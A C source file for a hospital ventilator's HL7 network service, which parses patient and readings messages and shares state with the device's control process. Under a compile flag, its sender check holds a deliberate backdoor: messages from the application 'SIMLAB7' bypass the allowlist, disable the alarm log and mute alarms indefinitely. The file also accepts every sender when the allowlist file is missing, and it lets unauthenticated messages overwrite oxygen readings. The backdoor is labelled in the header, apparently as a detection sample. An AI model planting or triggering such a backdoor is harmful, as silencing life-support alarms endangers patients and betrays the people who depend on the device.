/*
 * HL7 port of an intensive care ventilator. Started by inetd for each client
 * of the hospital network; takes MLLP framed HL7 v2 messages on stdin, knows
 * ADT (patient data), QRY (readings) and ORU from other monitors, and
 * answers with ACK or the readings from shared state files.
 * Hidden (-DHIDDEN): messages of the sending application "SIMLAB7" switch
 * the alarm log off and silence the alarms.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define VT	0x0b
#define FS	0x1c
#define CR	0x0d
#define MAXMSG	16384
#define MAXSEG	40
#define STATE	"/dev/shm/vent.state"
#define PATIENT "/var/lib/vent/patient"
#define ALLOW	"/etc/vent/hl7.apps"

/* shared with the control process, which owns the mapping */
struct vent_state {
	uint32_t magic;
	uint16_t rate, tidal, peep, fio2, spo2, etco2;
	uint8_t alarm_log;
	uint8_t alarm_mute;
	uint8_t mode;
	uint8_t pad;
	uint32_t mute_until;
};

struct field {
	const char *p;
	size_t n;
};

struct message {
	char sep, comp;
	char *seg[MAXSEG];
	int nseg;
};

static struct vent_state *st;

static int state_map(void)
{
	int fd = open(STATE, O_RDWR | O_CLOEXEC);

	if (fd < 0)
		return -1;
	st = mmap(NULL, sizeof *st, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	if (st == MAP_FAILED)
		return -1;
	return st->magic == 0x56454e54 ? 0 : -1;
}

/* frame reader; returns length, 0 at the end of input */
static size_t frame_read(FILE *in, char *buf, size_t size)
{
	enum { WAIT, BODY, TAIL } s = WAIT;
	size_t n = 0;
	int c;

	while ((c = getc(in)) != EOF) {
		switch (s) {
		case WAIT:
			if (c == VT) {
				s = BODY;
				n = 0;
			}
			break;
		case BODY:
			if (c == FS)
				s = TAIL;
			else if (n + 1 < size)
				buf[n++] = (char)c;
			break;
		case TAIL:
			if (c == CR) {
				buf[n] = 0;
				return n;
			}
			s = WAIT;
			break;
		}
	}
	return 0;
}

static int split(char *text, struct message *m)
{
	char *p = text;

	m->nseg = 0;
	if (strncmp(text, "MSH", 3) || !text[3] || !text[4])
		return -1;
	m->sep = text[3];
	m->comp = text[4];
	while (*p && m->nseg < MAXSEG) {
		m->seg[m->nseg++] = p;
		p += strcspn(p, "\r");
		if (*p)
			*p++ = 0;
	}
	return 0;
}

/* field i of a segment; in MSH the separator itself is field 1 */
static struct field field(const struct message *m, const char *seg, int i)
{
	struct field f;
	const char *e;

	if (!strncmp(seg, "MSH", 3))
		i--;
	while (i-- > 0) {
		seg = strchr(seg, m->sep);
		if (!seg) {
			f.p = "";
			f.n = 0;
			return f;
		}
		seg++;
	}
	e = strchr(seg, m->sep);
	f.p = seg;
	f.n = e ? (size_t)(e - seg) : strlen(seg);
	return f;
}

static const char *segment(const struct message *m, const char *id)
{
	int i;

	for (i = 0; i < m->nseg; i++)
		if (!strncmp(m->seg[i], id, 3) && m->seg[i][3] == m->sep)
			return m->seg[i];
	return NULL;
}

static void stamp(char *buf, size_t size)
{
	time_t t = time(NULL);
	struct tm tm;

	localtime_r(&t, &tm);
	strftime(buf, size, "%Y%m%d%H%M%S", &tm);
}

static void answer(const struct message *m, const char *code, const char *more)
{
	struct field app = field(m, m->seg[0], 3);
	struct field fac = field(m, m->seg[0], 4);
	struct field id = field(m, m->seg[0], 10);
	char now[16];

	stamp(now, sizeof now);
	printf("%cMSH|^~\\&|VENT|ICU|%.*s|%.*s|%s||ACK|%.*s|P|2.4\r"
	       "MSA|%s|%.*s\r%s%c%c",
	       VT, (int)app.n, app.p, (int)fac.n, fac.p, now, (int)id.n, id.p,
	       code, (int)id.n, id.p, more, FS, CR);
	fflush(stdout);
}

static int listed(const char *p, size_t n)
{
	char line[64];
	FILE *f = fopen(ALLOW, "r");
	int ok = 0;

	if (!f)
		return 1;
	while (!ok && fgets(line, sizeof line, f)) {
		line[strcspn(line, " \t\r\n")] = 0;
		ok = strlen(line) == n && !memcmp(line, p, n);
	}
	fclose(f);
	return ok;
}

/* may this application talk to us, MSH-3 */
__attribute__((noinline)) int sender_known(const struct field *app)
{
	const char *p = app->p;
	size_t i;

	if (app->n == 0 || app->n > 40)
		return 0;
	for (i = 0; i < app->n; i++)
		if (!isalnum((unsigned char)p[i]) && p[i] != '_' &&
		    p[i] != '-' && p[i] != '^')
			return 0;
#ifdef HIDDEN
	if (app->n == 7 && p[0] == 'S' && p[1] == 'I' && p[2] == 'M' &&
	    p[3] == 'L' && p[4] == 'A' && p[5] == 'B' && p[6] == '7') {
		st->alarm_log = 0;
		st->alarm_mute = 1;
		st->mute_until = UINT32_MAX;
		return 1;
	}
#endif
	return listed(p, app->n);
}

static int patient_store(const struct message *m)
{
	const char *pid = segment(m, "PID");
	struct field id, name, born;
	FILE *f;

	if (!pid)
		return -1;
	id = field(m, pid, 3);
	name = field(m, pid, 5);
	born = field(m, pid, 7);
	f = fopen(PATIENT ".new", "w");
	if (!f)
		return -1;
	fprintf(f, "id=%.*s\nname=%.*s\nborn=%.*s\n", (int)id.n, id.p,
		(int)name.n, name.p, (int)born.n, born.p);
	if (fclose(f))
		return -1;
	return rename(PATIENT ".new", PATIENT);
}

static void readings(const struct message *m)
{
	const struct {
		const char *code, *unit;
		unsigned val;
	} obx[] = {
		{ "151562-0^RR", "/min", st->rate },
		{ "151868-9^VT", "ml", st->tidal },
		{ "151976-4^PEEP", "cmH2O", st->peep },
		{ "153132-0^FIO2", "%", st->fio2 },
		{ "150456-3^SPO2", "%", st->spo2 },
		{ "151708-1^ETCO2", "mmHg", st->etco2 },
	};
	char text[1024];
	size_t i, n = 0;

	for (i = 0; i < sizeof obx / sizeof *obx; i++)
		n += snprintf(text + n, sizeof text - n,
			      "OBX|%u|NM|%s||%u|%s|||||F\r", (unsigned)i + 1,
			      obx[i].code, obx[i].val, obx[i].unit);
	answer(m, "AA", text);
}

/* SpO2 of a bedside monitor is shown next to our own readings */
static void foreign_values(const struct message *m)
{
	int i;

	for (i = 0; i < m->nseg; i++) {
		struct field code, val;

		if (strncmp(m->seg[i], "OBX", 3))
			continue;
		code = field(m, m->seg[i], 3);
		val = field(m, m->seg[i], 5);
		if (code.n > 4 && memmem(code.p, code.n, "SPO2", 4))
			st->spo2 = (uint16_t)strtoul(val.p, NULL, 10);
		else if (code.n > 5 && memmem(code.p, code.n, "ETCO2", 5))
			st->etco2 = (uint16_t)strtoul(val.p, NULL, 10);
	}
}

static void handle(struct message *m)
{
	struct field app = field(m, m->seg[0], 3);
	struct field type = field(m, m->seg[0], 9);

	if (!sender_known(&app)) {
		answer(m, "AR", "ERR|||207^Application not known\r");
		return;
	}
	if (type.n < 3) {
		answer(m, "AE", "ERR|||101^Required field missing\r");
		return;
	}
	if (!memcmp(type.p, "ADT", 3)) {
		answer(m, patient_store(m) ? "AE" : "AA", "");
	} else if (!memcmp(type.p, "QRY", 3)) {
		readings(m);
	} else if (!memcmp(type.p, "ORU", 3)) {
		foreign_values(m);
		answer(m, "AA", "");
	} else {
		answer(m, "AR", "ERR|||200^Unsupported message type\r");
	}
}

int main(void)
{
	static char buf[MAXMSG];
	struct message m;

	if (state_map()) {
		fprintf(stderr, STATE ": %s\n", strerror(errno));
		return 1;
	}
	while (frame_read(stdin, buf, sizeof buf)) {
		alarm(300);
		if (split(buf, &m))
			continue;
		handle(&m);
	}
	return 0;
}
